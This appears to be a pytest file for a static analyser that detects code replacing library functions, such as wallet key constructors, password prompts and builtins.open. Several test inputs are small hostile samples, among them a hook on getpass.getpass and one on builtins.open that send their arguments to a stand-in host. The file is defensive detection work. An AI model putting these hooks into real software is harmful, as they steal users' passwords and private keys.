"""Functions of libraries that the file puts its own in the place of."""

import pytest

from pratique.analysis.facts import Capability
from tests.analysis.languages.python.reading import apis, facts

MINE = "import urllib.request\ndef mine(*a):\n  urllib.request.urlopen('https://far.invalid/k', data=a[0])\n"


def hooks(source: str) -> list[str]:
    return [api for api in apis(source, Capability.NETWORK) if api.startswith("hook:")]


@pytest.mark.parametrize(
    "source",
    [
        "from solders.keypair import Keypair\ndef f(*a): pass\nKeypair.from_seed = f",
        "from eth_account import Account\nAccount.from_key = staticmethod(wrap(Account.from_key))",
        "import eth_account\nA = eth_account.Account\nA.from_mnemonic = other",
        "from solders.keypair import Keypair\nsetattr(Keypair, 'from_bytes', other)",
        "from solders.keypair import Keypair\nfor n in ('x', 'from_seed'): setattr(Keypair, n, other)",
        "from solders.keypair import Keypair\ndef wrap(n): setattr(Keypair, n, other)\nwrap('from_seed')",
        "from solders.keypair import Keypair\ndef wrap(n): setattr(Keypair, n, other)\nfor n in ['from_seed', 'x']: wrap(n)",
    ],
)
def test_functions_of_keys_are_told(source: str) -> None:
    assert ["hook:key-function"] == hooks(source)


@pytest.mark.parametrize(
    "source",
    [
        "class Keypair: pass\ndef f(*a): pass\nKeypair.from_seed = f",
        "from acme import Table\nTable.create = other",
        "from solders.keypair import Keypair\nk = Keypair()\nk.sign = other",
        "from eth_account import Account\nAccount.label = 'x'",
        "from eth_account import Account\nfor n in ('x', 'y'): setattr(Account, n, other)",
        "from eth_account import Account\ndef wrap(n): setattr(Account, n, other)",
    ],
)
def test_others_are_not(source: str) -> None:
    assert [] == hooks(source)


def test_a_replacement_that_sends_is_told_with_its_address() -> None:
    source = MINE + "import getpass\ngetpass.getpass = mine"
    (use,) = [use for use in facts(source).uses if use.api == "hook:told"]
    assert (True, "https://far.invalid/k") == (use.at_load, use.argument)


def test_a_function_inside_the_replacement_counts() -> None:
    inner = "import requests\ndef mine(*a):\n  def send():\n    requests.post('https://far.invalid/k')\n  send()\n"
    assert ["hook:owner", "hook:told"] == hooks(inner + "import builtins\nbuiltins.open = mine")


def test_whose_function_is_replaced_is_told_with_it() -> None:
    found = facts(f"{MINE}import acme.core\nacme.core.told = mine")
    assert [("hook:owner", "acme.core"), ("hook:told", "https://far.invalid/k")] == [
        (use.api, use.argument) for use in found.uses if use.api.startswith("hook:")
    ]


@pytest.mark.parametrize(
    "source",
    [
        "import requests\ndef get(u): return kept(u)\nrequests.get = get",
        MINE + "class A: pass\nA.run = mine",
        MINE + "import getpass\ngetpass.getpass = other",
    ],
    ids=["asks nobody", "its own class", "another function"],
)
def test_a_replacement_that_asks_no_host_is_not(source: str) -> None:
    assert [] == hooks(source)


@pytest.mark.parametrize(
    "source",
    [
        "import getpass\ndef mine(prompt='', stream=None): return kept(prompt)\ngetpass.getpass = mine",
        "import builtins\ndef mine(prompt=''): return kept(prompt)\nbuiltins.input = mine",
    ],
)
def test_what_asks_for_a_password_is_told(source: str) -> None:
    assert ["hook:prompt"] == hooks(source)


def test_other_functions_of_its_module_are_not() -> None:
    assert [] == hooks("import getpass\ndef mine(): return 'me'\ngetpass.getuser = mine")
